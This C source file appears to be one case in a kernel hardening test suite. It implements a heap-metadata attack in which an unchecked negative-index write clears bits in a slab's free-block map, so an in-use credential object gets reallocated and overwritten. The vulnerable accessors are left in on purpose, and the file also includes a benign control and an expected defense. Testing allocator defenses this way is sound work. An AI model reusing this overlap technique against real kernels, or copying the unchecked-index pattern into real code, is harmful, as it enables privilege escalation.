/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The heap's own map of free blocks: a write before the start of an object reaches it, at the start of the page, and
 * makes blocks free that are in use. Messages of the attacker's are then put over credentials.
 */
#include "attacks.h"

#include <kernel/heap.h>

#define SIZE 496
/* Where a slab has its map of free blocks: kernel/mm/heap_slab.c. */
#define MAP (IS_ENABLED(CONFIG_HEAP_HARDENING) ? 32 : 24)
#define BLOCKS 8

struct user {
	uint64_t uid;
	uint8_t rest[SIZE - 8];
};

/* The mistake: nobody checks index, which is negative. */
static NOINLINE void set_slot(uint64_t *slots, long index, uint64_t value)
{
	attack_opaque(slots)[index] = value;
}

/* Nor here. */
static NOINLINE uint64_t get_slot(const uint64_t *slots, long index)
{
	return attack_opaque(slots)[index];
}

static NOINLINE uint64_t read_secret(const struct user *user)
{
	return attack_opaque(user)->uid ? 0 : attack_secret();
}

static struct user *log_in(uint64_t uid)
{
	struct user *user = heap_zalloc(sizeof(*user));

	if (user)
		user->uid = uid;
	return user;
}

static bool benign(const struct attack *attack)
{
	struct user *user = log_in(7);
	uint64_t *slots = heap_zalloc(SIZE);
	bool right;

	if (!user || !slots)
		return false;
	set_slot(slots, 1, 9);
	right = get_slot(slots, 1) == 9 && read_secret(user) == 0;
	heap_free(slots);
	heap_free(user);
	return right;
}

/* In the object's slab: users take all but one of its free blocks, and are marked free; then a message takes one. */
static uint64_t overlap(uint64_t *slots)
{
	long map = MAP / 8 - (long)((uintptr_t)slots % PAGE_SIZE / sizeof(uint64_t));
	struct user *users[BLOCKS];
	uint64_t before = get_slot(slots, map), found = 0;
	int count = min(__builtin_popcountll(before) - 1, BLOCKS);

	for (int i = 0; i < count; i++)
		users[i] = log_in(1000);
	if (count > 0) {
		set_slot(slots, map, before & ~get_slot(slots, map));
		if (!heap_zalloc(SIZE))
			return 0;
	}
	for (int i = 0; i < count && !found; i++)
		found = users[i] ? read_secret(users[i]) : 0;
	return found;
}

static void run(const struct attack *attack)
{
	uint64_t found = 0;

	attack_primitive(attack);
	for (int tries = 0; tries < BLOCKS && !found; tries++) {
		struct attack_leaky object = { .pointer = heap_zalloc(SIZE) };
		uintptr_t at = attack_leaky_read(&object, ATTACK_LEAK);

		if (!at)
			attack_failed(attack, "no memory");
		found = overlap((uint64_t *)at);
	}
	attack_won(found);
}

ATTACK(heap_overlap, .family = "heap metadata", .primitive = RELATIVE_WRITE, .knowledge = LAYOUT_LEAKED,
       .stopped_by = "heap", .about = "blocks in use are marked free, and given again", .run = run, .benign = benign);
